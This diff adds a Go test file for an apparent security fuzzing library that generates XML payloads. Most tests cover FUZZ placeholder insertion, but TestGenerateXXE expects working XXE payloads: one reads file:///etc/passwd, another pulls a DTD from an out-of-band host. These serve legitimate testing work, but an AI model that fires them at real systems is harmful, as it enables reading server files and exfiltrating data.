@@ -0,0 +1,195 @@
+package payload
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestGenerateXML(t *testing.T) {
+	generator := NewPayloadGenerator(FormatXML)
+	generator.SetXMLNamespaces(map[string]string{"ns": "urn:example"})
+
+	tests := []struct {
+		name     string
+		template string
+		path     string
+		want     string
+		wantErr  bool
+	}{
+		{
+			name:     "Empty template and path",
+			template: "",
+			path:     "",
+			want:     "<data>FUZZ</data>",
+			wantErr:  false,
+		},
+		{
+			name:     "Empty template with path",
+			template: "",
+			path:     "/user/name",
+			want:     "<user><name>FUZZ</name></user>",
+			wantErr:  false,
+		},
+		{
+			name:     "Element in template",
+			template: `<?xml version="1.0"?><user><name>john</name><age>30</age></user>`,
+			path:     "/user/name",
+			want:     `<?xml version="1.0"?><user><name>FUZZ</name><age>30</age></user>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Indexed element",
+			template: `<users><user>a</user><user>b</user></users>`,
+			path:     "/users/user[2]",
+			want:     `<users><user>a</user><user>FUZZ</user></users>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Attribute",
+			template: `<user id="1"><name>john</name></user>`,
+			path:     "/user/@id",
+			want:     `<user id="FUZZ"><name>john</name></user>`,
+			wantErr:  false,
+		},
+		{
+			name:     "New attribute",
+			template: `<user/>`,
+			path:     "/user/@role",
+			want:     `<user role="FUZZ"/>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Prefixed elements",
+			template: `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><get>1</get></soap:Body></soap:Envelope>`,
+			path:     "/soap:Envelope/Body/get",
+			want:     `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><get>FUZZ</get></soap:Body></soap:Envelope>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Namespace declared for new element",
+			template: `<root></root>`,
+			path:     "/root/ns:value",
+			want:     `<root xmlns:ns="urn:example"><ns:value>FUZZ</ns:value></root>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Escaped template content",
+			template: `<root><a>x &amp; y</a><b/></root>`,
+			path:     "/root/b",
+			want:     `<root><a>x &amp; y</a><b>FUZZ</b></root>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Root mismatch",
+			template: `<user/>`,
+			path:     "/account/name",
+			wantErr:  true,
+		},
+		{
+			name:     "Attribute not last",
+			template: `<user/>`,
+			path:     "/user/@id/name",
+			wantErr:  true,
+		},
+		{
+			name:     "Invalid template",
+			template: `<user><name></user>`,
+			path:     "/user/name",
+			wantErr:  true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := generator.GenerateXML(tt.template, tt.path)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("GenerateXML() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+			if !tt.wantErr && got != tt.want {
+				t.Errorf("GenerateXML() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+
+	if _, err := NewPayloadGenerator(FormatJSON).GenerateXML("", ""); err == nil {
+		t.Error("GenerateXML() expected an error for a JSON generator")
+	}
+}
+
+func TestFuzzXML(t *testing.T) {
+	generator := NewPayloadGenerator(FormatXML)
+
+	got, err := generator.FuzzXML(`<user><name>john</name></user>`, "/user/name", []string{"admin", "<b>x</b>"})
+	if err != nil {
+		t.Fatalf("FuzzXML() error = %v", err)
+	}
+	want := []string{`<user><name>admin</name></user>`, `<user><name><b>x</b></name></user>`}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FuzzXML() = %v, want %v", got, want)
+	}
+
+	got, err = generator.FuzzXMLWithMultipleFuzzPoints(`<user id="1"><name>john</name></user>`, []string{"/user/@id", "/user/name"}, []string{"1'"})
+	if err != nil {
+		t.Fatalf("FuzzXMLWithMultipleFuzzPoints() error = %v", err)
+	}
+	want = []string{`<user id="1'"><name>1'</name></user>`}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FuzzXMLWithMultipleFuzzPoints() = %v, want %v", got, want)
+	}
+}
+
+func TestGenerateXXE(t *testing.T) {
+	generator := NewPayloadGenerator(FormatXML)
+
+	tests := []struct {
+		name     string
+		template string
+		path     string
+		want     string
+		wantErr  bool
+	}{
+		{
+			name:     "Element",
+			template: `<?xml version="1.0"?><user><name>john</name></user>`,
+			path:     "/user/name",
+			want:     `<?xml version="1.0"?><!DOCTYPE user [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><user><name>&xxe;</name></user>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Existing DOCTYPE replaced",
+			template: `<!DOCTYPE user SYSTEM "user.dtd"><user><name>john</name></user>`,
+			path:     "/user/name",
+			want:     `<!DOCTYPE user [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><user><name>&xxe;</name></user>`,
+			wantErr:  false,
+		},
+		{
+			name:     "Attribute",
+			template: `<user id="1"/>`,
+			path:     "/user/@id",
+			wantErr:  true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := generator.GenerateXXE(tt.template, tt.path, "file:///etc/passwd")
+			if (err != nil) != tt.wantErr {
+				t.Errorf("GenerateXXE() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+			if !tt.wantErr && got != tt.want {
+				t.Errorf("GenerateXXE() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+
+	got, err := generator.GenerateXXEParameterEntity(`<user/>`, "http://oob.example.com/x.dtd")
+	if err != nil {
+		t.Fatalf("GenerateXXEParameterEntity() error = %v", err)
+	}
+	want := `<!DOCTYPE user [<!ENTITY % xxe SYSTEM "http://oob.example.com/x.dtd"> %xxe;]><user/>`
+	if got != want {
+		t.Errorf("GenerateXXEParameterEntity() = %v, want %v", got, want)
+	}
+}